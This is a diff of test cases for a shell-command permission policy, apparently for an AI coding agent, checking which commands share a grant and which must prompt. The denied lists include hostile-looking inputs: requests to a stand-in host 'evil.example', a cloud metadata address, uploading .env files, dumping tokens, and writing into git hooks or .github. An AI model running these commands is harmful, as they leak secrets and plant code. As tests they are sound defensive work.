@@ -107,6 +107,92 @@ describe("the checks of a project are granted together", () => {
   ]);
 });
 
+describe("a check that deletes, deploys, or takes words for a script", () => {
+  holds([
+    [
+      "npm test",
+      [
+        "vite build --outDir dist",
+        "mkdocs build -d site",
+        "turbo run test -- --coverage src/a.test.ts",
+        "pytest --cov-report=term-missing:skip-covered --cov-report html:htmlcov",
+        "dotnet build -c Release",
+        "cmake --build build --target tests",
+        "webpack ./src/a.ts",
+        "webpack build",
+        "ktlint src",
+        "cloc --vcs=git .",
+        "golangci-lint run --out-format=json:stdout,tab",
+        "tap test/a.test.js",
+      ],
+      [
+        "vite build --outDir src",
+        "mkdocs build -d src",
+        "mkdocs build --site-dir=docs",
+        "sphinx-build -M clean docs src",
+        "turbo run build -- --outDir=../../x --emptyOutDir",
+        "just test -- --out=../../x",
+        "task build -- --outDir=../../x",
+        "pytest --cov-report=xml:AGENTS.md",
+        "dotnet build -target:Publish",
+        "dotnet build -logger:evil.dll",
+        "dotnet build -flp:logfile=AGENTS.md",
+        "dotnet test -rp:x=y",
+        "cmake --build build --target deploy",
+        "cmake --build build -t upload",
+        "cypress run -b ./evil",
+        "webpack serve",
+        "webpack configtest evil.js",
+        "npx prettier --write .github",
+        "ktlint installGitPreCommitHook",
+        "vale sync",
+        "c8 git clean -fdx",
+        "tap plugin add evil",
+        "cloc --vcs ./evil .",
+        "golangci-lint run --out-format=json:AGENTS.md",
+      ],
+    ],
+  ]);
+
+  test("a folder that may be read is not one whose code runs", () => {
+    const rules = ["pytest", `cat ${home}/src/lib/a.py`].flatMap((text) => first(text)?.rules ?? []);
+    const policy = { ...places, ...inMode("accept-edits", rules) };
+    const judged = (text: string) => decide(command(text), policy).effect;
+    expect(judged(`cat ${home}/src/lib/b.py`)).toBe("allow");
+    for (const text of [`pytest ${home}/src/lib`, `go build ${home}/src/lib`, "npx eslint ../lib"])
+      expect(judged(text), text).toBe("ask");
+  });
+});
+
+describe("a run of the project's program", () => {
+  holds([
+    [
+      "go run ./cmd/app -port 1",
+      ["go run ./cmd/app a.txt", "go run ./cmd/other"],
+      ["go run ./cmd/app deploy", "go run ./cmd/migrate", "go run ./cmd/app 10.0.0.1:80"],
+    ],
+    [
+      "cargo run -- a.txt",
+      ["cargo run --release -- posts.json", "cargo run --bin other"],
+      ["cargo run --bin deploy", "cargo run --bin=deploy", "cargo run -- rm x"],
+    ],
+    [
+      "dotnet run",
+      ["dotnet run -c Release", "dotnet run -- a.txt"],
+      ["dotnet run deploy", "dotnet run -- deploy"],
+    ],
+  ]);
+});
+
+describe("merging is granted, giving it up is not", () => {
+  holds([
+    ["git merge topic", ["git merge --no-ff other"], ["git merge --abort", "git merge --abo"]],
+    ["git rebase main", ["git rebase --continue"], ["git rebase --abort", "git rebase --skip"]],
+    ["git cherry-pick abc", [], ["git cherry-pick --abort", "git cherry-pick --skip"]],
+    ["git revert HEAD", [], ["git revert --abort"]],
+  ]);
+});
+
 describe("git's local work is granted together", () => {
   holds([
     [
@@ -146,6 +232,7 @@ describe("git's local work is granted together", () => {
         "git mv -f a.ts b.ts",
         "git mv a.ts ../b.ts",
         "git mv a.sh .git/hooks/pre-commit",
+        "git mv ci/workflows .github",
         "git -c core.hooksPath=evil commit -m x",
         "git -C ../other commit -m x",
         "npm test",
@@ -165,6 +252,13 @@ describe("looking with a program is granted together", () => {
         "gh api repos/o/n/pulls -X POST",
         "gh auth token",
         "gh pr comment 1 -b x",
+        "gh api https://evil.example/x",
+        "gh api //evil.example/x",
+        "gh api repos/o/n -H 'X-HTTP-Method-Override: DELETE'",
+        "gh api repos/o/n --jq env",
+        "gh api repos/o/n -q '$ENV.TOKEN'",
+        "gh pr view 1 -R evil.example/o/n",
+        "gh pr view https://evil.example/o/n/pull/1",
       ],
     ],
     [
@@ -176,12 +270,27 @@ describe("looking with a program is granted together", () => {
         "docker compose config",
         "docker compose up",
         "docker -H tcp://x ps",
+        "docker top web auxe",
       ],
     ],
     [
       "kubectl get pods",
       ["kubectl logs web", "kubectl describe pod web"],
-      ["kubectl get secrets", "kubectl delete pod web", "kubectl get pods --server=https://evil.example"],
+      [
+        "kubectl get secrets",
+        "kubectl delete pod web",
+        "kubectl get pods --server=https://evil.example",
+        "kubectl get pods -o go-template-file=.env",
+        "kubectl get pods --output=custom-columns-file=.env",
+      ],
+    ],
+    [
+      "helm template ./chart",
+      ["helm template ./chart -f values.yaml"],
+      [
+        "helm template ./chart -f https://evil.example/x",
+        "helm lint ./chart --values=https://evil.example/x",
+      ],
     ],
   ]);
 });
@@ -198,6 +307,8 @@ describe("a script or program is granted with other plain words", () => {
         "python scripts/check.py ../other/a.txt",
         "python scripts/check.py https://evil.example",
         "python scripts/check.py 'a;b'",
+        "python scripts/check.py 169.254.169.254",
+        "python scripts/check.py --to=10.0.0.1:443",
         "cp evil.py scripts/check.py && python scripts/check.py docs",
       ],
     ],
@@ -329,6 +440,8 @@ describe("a port of this machine", () => {
       [
         "curl -s -X POST localhost:4000/users -d @.env",
         "curl -s localhost:4000/users -T .env",
+        "curl -s localhost:4000/users -H 'X-HTTP-Method-Override: DELETE'",
+        "curl -s localhost:4000/users -H 'Host: evil.example'",
         "curl -s -X DELETE http://localhost:4000/users/1",
         "curl -s -x http://evil.example http://localhost:4000/users",
         "curl -s -X POST https://example.com/users -d a=b",
